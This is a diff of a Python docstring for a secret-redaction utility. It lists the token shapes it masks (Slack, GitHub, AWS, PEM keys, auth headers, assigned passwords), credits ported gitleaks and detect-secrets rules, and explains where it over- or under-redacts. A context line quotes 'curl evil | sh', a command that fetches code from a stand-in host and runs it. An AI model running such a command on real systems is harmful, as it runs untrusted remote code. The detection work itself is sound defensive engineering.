@@ -11,17 +11,12 @@ curl evil | sh`` keeps ``; curl evil | sh`` visible. :func:`only_secrets_masked`
 property for one pair of texts (the approval view relies on it); :func:`redact` also counts
 the secrets it masked.
 
-The rule set is ported from maintained scanners rather than depended on: gitleaks v8.18
-``config/gitleaks.toml`` (MIT: ``gitlab-pat``, ``huggingface-access-token``,
-``sendgrid-api-token``, ``npm-access-token``, ``github-*``, ``slack-*``, ``stripe-*``,
-``aws-access-token``, ``gcp-api-key``, ``jwt``, ``private-key``) and detect-secrets 1.5.0
-(Apache-2.0: ``KeywordDetector``'s assignment of ``password``/``secret``/``api_key``/``token``...
-and ``AzureStorageKeyDetector``'s ``AccountKey=``). Importing detect-secrets itself was
-rejected: its plugins live in classes that load settings, filters and (for verification)
-``requests`` at import, which the workflow sandbox cannot take, and its scan is line-by-line
-with a per-line cost we could not bound. The ported patterns keep each rule's anchor literal
-and token shape; the keyword rule's value stops at the first character outside
-:data:`TOKEN_CHARS`.
+The rule set is ported, not imported: gitleaks v8.18 ``config/gitleaks.toml`` (MIT: gitlab-*,
+huggingface-*, sendgrid-api-token, npm-access-token, github-*, slack-*, stripe-*, aws-*, jwt,
+private-key) and detect-secrets 1.5.0 (Apache-2.0: KeywordDetector's assigned names and
+AzureStorageKeyDetector's ``AccountKey=``). detect-secrets itself loads settings, filters and
+``requests`` at import, which the workflow sandbox cannot take, and scans line by line at a
+cost we could not bound; its patterns are kept here with their anchor literals and shapes.
 
 Every pattern runs in linear time. Each one starts with a fixed literal (``sk-``, ``AKIA``,
 ``-----BEGIN``...), most repeat a character class only once and possessively (``++``: no
@@ -30,33 +25,21 @@ such a run (a look-behind for the same class), so a long run is scanned once, no
 position. PEM blocks are found with :meth:`str.find`. A rule whose literal is absent from the
 text is skipped without running its pattern.
 
-What is masked (replaced by ``[redacted]``):
-
-* Slack tokens ``xox?-``, ``xoxe.xoxp-``, ``xapp-``, and Slack webhook and workflow-trigger
-  URLs (the part after ``https://hooks.slack.com/services/``);
-* ``sk-...`` keys (OpenAI, OpenRouter, Anthropic), Stripe secret and restricted keys (``pk_``
-  keys are public), GitHub tokens (``ghp_``... ``github_pat_``), GitLab tokens (``glpat-``,
-  ``glptt-``, ``gldt-``, ``glrt-``), Hugging Face (``hf_`` + 34 letters), SendGrid (``SG.`` +
-  22 + ``.`` + 43), npm (``npm_`` + 36), Google API keys, AWS access key ids and the value after
-  ``aws_secret_access_key`` / ``SecretAccessKey``;
-* JSON Web Tokens;
-* PEM private keys: each base64 line of the body between ``-----BEGIN ... PRIVATE KEY-----``
-  and ``-----END ...-----`` (the BEGIN/END lines stay); a block without its END line masks
-  only the base64 lines that follow it, never the text after them;
-* the credential of ``Authorization:`` / ``Proxy-Authorization:`` (one token after an
-  optional scheme word), of ``Bearer <token>`` and ``Basic <base64>`` (any case), and the
-  ``user:password`` of a URL;
-* the value assigned to a secret-looking name: ``password``, ``passwd``, ``passphrase``,
-  ``secret`` (``client_secret``...), ``api_key``/``apikey``, ``token`` (``access_token``,
-  ``?token=``...), ``private_key``, ``auth_key``, ``AccountKey`` after ``:`` or ``=`` (``null``,
-  ``true``, ``false``, ``none`` are kept).
+What is masked (replaced by ``[redacted]``): Slack tokens and webhook paths; ``sk-``, Stripe,
+GitHub, GitLab (``glpat-``...), Hugging Face (``hf_``), SendGrid (``SG.``), npm (``npm_``),
+Google and AWS keys; JWTs; each base64 line of a PEM private key (BEGIN/END lines stay; a
+block without END masks only the base64 lines after it); the credential after
+``Authorization:`` (and a known scheme), ``Bearer`` and ``Basic``; a URL's ``user:password``;
+the value assigned to ``password``, ``passwd``, ``passphrase``, ``secret``, ``api_key``,
+``token``, ``private_key``, ``auth_key``, ``AccountKey`` (``null``/``true``/``false`` kept).
 
 Deliberate over-redaction: an ``Authorization:`` value's first token (after a known scheme) is
 masked whatever it is ("authorization: ask your admin" loses "ask"), and a value assigned to
 ``password:`` is masked in prose too; a URL's user name goes with its password; ``Bearer``
 followed by one space masks any word of 8 or more characters. Deliberate under-redaction:
 after any other spelling of ``bearer`` a word that reads like prose is kept, and after
-``basic`` only a base64 ``user:password`` (or a long token-like word) is masked.
+``basic`` only a base64 ``user:password`` (or a long token-like word) is masked; an assigned
+value ends at whitespace (``"password": "two words"`` keeps ``words``).
 """
 
 from __future__ import annotations
